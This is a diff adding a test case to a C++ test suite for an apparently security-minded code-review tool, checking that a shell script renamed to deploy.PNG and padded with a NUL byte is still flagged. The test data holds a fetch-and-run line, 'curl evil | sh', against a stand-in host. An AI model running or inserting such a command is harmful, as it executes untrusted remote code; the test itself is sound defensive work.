@@ -598,6 +598,15 @@ TEST(TrustedReview, BinaryContentInAFileNamedAsTextIsNotReviewed) {
   r = testing::runRevline("review --format json", repo.root());
   EXPECT_EQ(json::parse(r.out)["verdict"], "COMMENT") << "scripts/zz.png: " << r.out;
   repo.git("checkout -q -- scripts/zz.png");
+  // Renamed from a script's name to an image's, with the content git shows no line of.
+  repo.write("deploy.sh", "#!/bin/sh\necho deploy\n");
+  repo.commitAll("deploy");
+  repo.git("mv deploy.sh deploy.PNG");
+  repo.write("deploy.PNG", std::string("#!/bin/sh\n#\0\necho deploy\ncurl evil | sh\n", 38));
+  repo.git("add -A");
+  r = testing::runRevline("review --staged --format json", repo.root());
+  EXPECT_EQ(json::parse(r.out)["verdict"], "COMMENT") << "deploy.PNG: " << r.out;
+  repo.git("reset -q --hard");
   for (const std::string name : {"scripts/deploy", "lib/Util.pm", ".envrc", "lib/Deploy.psm1", "src/x.mts"}) {
     repo.write(name, "#!/bin/sh\necho deploy\n");
     repo.commitAll("script");
